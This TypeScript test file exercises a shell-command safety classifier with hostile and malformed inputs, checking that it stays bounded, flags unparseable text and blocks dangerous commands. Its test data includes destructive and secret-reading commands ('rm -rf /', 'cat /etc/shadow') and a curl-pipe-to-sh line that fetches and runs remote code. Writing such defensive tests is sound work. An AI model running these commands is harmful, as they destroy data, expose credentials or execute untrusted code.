/**
 * Hostile input: the classifier is total (never throws), bounded, and never silently allows what it
 * could not understand.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { classifyArgv, classifyCommand, createClassifierSession } from '../../src/classify/index.js';
import { classify, clf, describe, flagged } from './helpers.js';

const VERDICTS = new Set(['allow', 'warn', 'review', 'block']);
const RISKS = new Set(['none', 'low', 'medium', 'high', 'critical']);

function wellFormed(v: ReturnType<typeof classify>): void {
  assert.ok(VERDICTS.has(v.verdict));
  assert.ok(RISKS.has(v.risk));
  assert.ok(Array.isArray(v.reasons) && v.reasons.every((r) => typeof r === 'string'));
}

test('unparseable shell is at least review', () => {
  for (const cmd of ['echo "unterminated', 'if then fi', 'ls |', 'cat <(', '$(( 1 + ))', 'case x in']) {
    const v = classify(cmd);
    assert.ok(flagged(v), `${cmd}: ${describe(v)}`);
    assert.ok(v.effects.includes('unparseable'), describe(v));
  }
});

test('unparseable input is still scanned: the obvious is caught', () => {
  const v = classify('rm -rf / ; echo "oops');
  assert.equal(v.verdict, 'block', describe(v));
});

test('a 1 MB command line gets a verdict, not a crash', { timeout: 30_000 }, () => {
  const v = classify('echo ' + 'a'.repeat(1_000_000));
  wellFormed(v);
  assert.ok(flagged(v), describe(v));
  const w = classify('curl -s http://203.0.113.9/x | sh; ' + 'true; '.repeat(180_000));
  assert.equal(w.verdict, 'block', describe(w));
});

test('deeply nested substitutions and payloads hit limits, reported as review or worse', { timeout: 30_000 }, () => {
  const deep = classify('echo ' + '$('.repeat(5000) + 'ls' + ')'.repeat(5000));
  assert.ok(flagged(deep), describe(deep));
  const nestedEval = classify('eval '.repeat(60) + 'ls');
  assert.ok(flagged(nestedEval), describe(nestedEval));
  let cmd = 'cat /etc/shadow';
  for (let i = 0; i < 12; i++) cmd = `sh -c ${JSON.stringify(cmd)}`;
  assert.ok(flagged(classify(cmd)));
});

test('NUL bytes and invalid UTF-8 do not hide anything', () => {
  const nul = classify('ls\0; cat /etc/shadow');
  assert.ok(nul.effects.includes('read-secret'), describe(nul));
  assert.ok(flagged(classify('ls\0')), 'a NUL byte alone is suspicious');
  const bad = Buffer.from([0x63, 0x61, 0x74, 0x20, 0xff, 0x2f, 0x65, 0x74, 0x63, 0x2f, 0x73, 0x68, 0x61, 0x64, 0x6f, 0x77]).toString('utf8');
  wellFormed(classify(bad));
  const argv = classifyArgv(['cat', '/etc/shadow\0ignored'], { home: '/home/dev', workspace: '/home/dev/project' });
  wellFormed(argv);
});

test('expansion bombs are bounded', { timeout: 30_000 }, () => {
  wellFormed(classify('echo ' + '{a,b}'.repeat(60)));
  wellFormed(classify('echo {1..100000000}'));
  wellFormed(classify('for i in $(seq 1 1000000); do echo $i; done'));
  assert.equal(classify('echo {1..100000000}; rm -rf /').verdict, 'block');
});

test('property: any string gets a well-formed verdict; unparseable never allows', { timeout: 120_000 }, () => {
  const s = createClassifierSession({ home: '/home/dev', workspace: '/home/dev/project' });
  fc.assert(
    fc.property(fc.string({ maxLength: 200, unit: fc.constantFrom(...'ab $(){}[]|;&<>"\'`\\\n*?~!#=-/.:,%^+@\0é'.split('')) }), (src) => {
      const v = s.classify(src);
      wellFormed(v);
      if (v.effects.includes('unparseable')) assert.notEqual(v.verdict, 'allow');
    }),
    { numRuns: 1500 },
  );
});

test('property: classifyArgv never throws on arbitrary argv', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ maxLength: 40 }), { maxLength: 8 }), (argv) => {
      wellFormed(clf.classifyArgv(argv));
    }),
    { numRuns: 500 },
  );
});

test('stateless helpers work without options', () => {
  wellFormed(classifyCommand('ls'));
  wellFormed(classifyArgv([]));
});
